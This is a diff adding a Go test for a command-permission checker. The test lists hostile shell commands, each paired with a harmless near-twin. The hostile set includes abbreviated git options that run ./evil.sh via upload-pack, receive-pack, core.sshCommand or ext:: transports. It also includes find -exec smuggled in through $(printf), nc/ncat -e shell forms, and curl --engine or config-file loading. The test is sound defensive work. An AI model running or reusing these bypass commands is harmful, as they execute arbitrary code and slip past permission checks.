@@ -482,6 +482,67 @@ func TestNetwork(t *testing.T) {
 	}
 }
 
+// A program that an argument names needs the power for commands, even if all the other
+// powers are given.
+func TestStarts(t *testing.T) {
+	powers := Powers{Delete: Allow, Git: Allow, Network: Allow}
+	for _, c := range []struct {
+		bad, near string
+		// run says that the attack is carried out
+		run bool
+	}{
+		{"git clone -u ./evil.sh file://WS new", "git clone -o up https://example.com/x", true},
+		{"git clone --u=./evil.sh file://WS new", "git clone --single-branch https://example.com/x", true},
+		{"git clone -qu ./evil.sh file://WS new", "git clone -q https://example.com/x", true},
+		{"git clone -qc core.sshCommand=./evil.sh ssh://h/r new", "git clone -qb main ssh://h/r", true},
+		{"git clone --co=core.sshCommand=./evil.sh ssh://h/r new", "git clone --depth=1 ssh://h/r", true},
+		{"git clone --con core.sshCommand=./evil.sh ssh://h/r new", "git clone --no-tags ssh://h/r", true},
+		{"git clone --te=dir file://WS new", "git clone --tags ssh://h/r", false},
+		{"git clone \"e$(printf 'xt::./evil.sh')\" new", "git clone ssh://h/ext", false},
+		{"git fetch --upl=./evil.sh file://WS", "git fetch -u origin", true},
+		{"git pull --upload-p ./evil.sh file://WS", "git pull --rebase", true},
+		{"git push --rece=./evil.sh file://WS HEAD:x", "git push -u origin main", true},
+		{"git push --ex ./evil.sh file://WS HEAD:x", "git push -o ci.skip -- origin", true},
+		{"git ls-remote --exe=./evil.sh file://WS", "git ls-remote -o x --exit-code", true},
+		{"A=./evil.sh git --config-env core.sshCommand=A clone ssh://h/r new", "git --no-pager clone ssh://h/r", false},
+		{"find . -delete -fprintf out x", "find dir -delete", false},
+		{"find . $(printf '%s' '-exec sh evil.sh ;') -delete", "find dir -type f -delete", true},
+		{"wget --use-askpass=./evil.sh https://h", "curl https://h", false},
+		{"wget -e use_askpass=./evil.sh https://h", "curl -o new https://h", false},
+		{"nc -e ./evil.sh h 80", "ping h", false},
+		{"ncat -c ./evil.sh h 80", "dig h", false},
+		{"netcat -lp 80 -e ./evil.sh", "host h", false},
+		{"echo '! ./evil.sh' | telnet", "whois h", false},
+		{"curl --engine ./evil.so https://h", "curl -sS https://h", false},
+		{"curl -sK file https://h", "curl -sk https://h", false},
+		{"curl --config file https://h", "curl --compressed https://h", false},
+		{"curl $(cat file)", "curl https://h/file?x", false},
+	} {
+		t.Run(c.bad, func(t *testing.T) {
+			p := newPlace(t)
+			r := run(strings.ReplaceAll(c.bad, "WS", p.ws), "")
+			if v := p.judge(powers, r, ""); v.Action != Ask {
+				t.Errorf("got %+v", v)
+			}
+			powers := powers
+			if powers.Command = Deny; p.judge(powers, r, "").Class != Command {
+				t.Errorf("commands are denied: got %+v", p.judge(powers, r, ""))
+			}
+			if v := p.judge(powers, run(c.near, ""), ""); v.Action != Allow {
+				t.Errorf("its neighbour %s: got %+v", c.near, v)
+			}
+			if !c.run {
+				return
+			}
+			// the file counts, not the status
+			_ = p.command(r.Command()).Run()
+			if _, err := os.Stat(filepath.Join(p.ws, "file")); err == nil {
+				t.Error("it started no program, so it is no attack")
+			}
+		})
+	}
+}
+
 // A command that a person cannot see as it is is asked.
 func TestCharacters(t *testing.T) {
 	p := newPlace(t)
